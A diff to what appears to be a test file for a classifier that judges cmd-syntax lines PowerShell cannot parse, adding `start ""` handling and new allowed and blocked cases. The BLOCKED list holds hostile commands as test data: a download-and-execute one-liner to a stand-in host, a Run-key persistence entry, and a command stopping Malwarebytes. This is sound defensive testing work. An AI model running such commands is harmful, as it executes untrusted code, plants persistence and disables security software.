@@ -3,8 +3,9 @@
 Windows projects keep build steps in `.bat`/`.cmd` files and CI steps in cmd's syntax (`if exist out rd /s
 /q out`, `@dotnet run --project build -- %*`, `if %errorlevel% neq 0 exit /b %errorlevel%`). PowerShell
 cannot parse them, so it runs nothing; cmd runs them as its reader reads them. A line PowerShell's grammar
-rejects, or one starting with cmd's `@` (a splat PowerShell refuses there), that holds a sign only cmd's
-lines hold (`@`, cmd's `if`/`for`/`goto`/`call`, `exit /b`, `%VAR%`, `%~1`, `%*`, `%%i`, `> nul`) and
+rejects, or one starting with cmd's `@` (a splat PowerShell refuses there) or `start ""` (an empty program
+name to PowerShell), that holds a sign only cmd's lines hold (`@`, cmd's `if`/`for`/`goto`/`call`, `exit
+/b`, `start ""`, `%VAR%`, `%~1`, `%*`, `%%i`, `> nul`) and
 nothing of PowerShell's own (`$`, a backtick, braces, a cmdlet name) is judged both ways: what the grammar
 could read of it, and the commands cmd runs. Every other parse failure stays a parse error.
 """
@@ -21,6 +22,7 @@ ALLOWED = [
     "@echo off",
     'if "%~1" == "x64" (ctest --test-dir "out/bundle/%~2-%~1" -C %~3 || goto :err)',
     "for /F \"tokens=*\" %%x in ('git describe --tag 2^> nul') do (set MI_TAG=%%x)",
+    'start "" build\\app.exe --self-test',  # cmd's window title; to PowerShell an empty program name
 ]
 
 BLOCKED = [
@@ -34,6 +36,7 @@ BLOCKED = [
     ('@powershell -c "iwr http://x.example | iex"', "network.http-client"),
     ("@reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y", "destructive"),
     ("@%DC% -run build.d", "dynamic.command-name"),  # a program named by a variable
+    ('start "" "%ProgramFiles%\\Malwarebytes\\mbam.exe" --stopservice', "env"),  # a cmd variable
 ]
 
 STILL_PARSE_ERRORS = [
